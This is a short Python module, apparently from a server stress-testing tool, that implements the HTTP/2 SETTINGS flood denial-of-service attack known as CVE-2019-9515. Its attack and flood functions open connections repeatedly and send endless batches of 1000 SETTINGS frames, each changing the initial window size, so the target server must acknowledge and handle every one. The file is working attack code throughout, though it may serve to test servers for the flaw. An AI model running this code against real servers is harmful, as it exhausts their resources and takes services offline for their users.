"""SETTINGS, of which each is to be acknowledged (CVE-2019-9515), and each says something else."""

import wire

WAYS = ("plain",)
FLOOR = {"frames": 2000}
BATCH = 1000


def attack(target):
    target.again_and_again(lambda connection: flood(target, connection))


def flood(target, connection):
    frames = b"".join(wire.settings([(wire.INITIAL_WINDOW_SIZE, 65535 + number % 2)])
                      for number in range(BATCH))
    while True:
        connection.send(frames)
        connection.count("frames", BATCH)
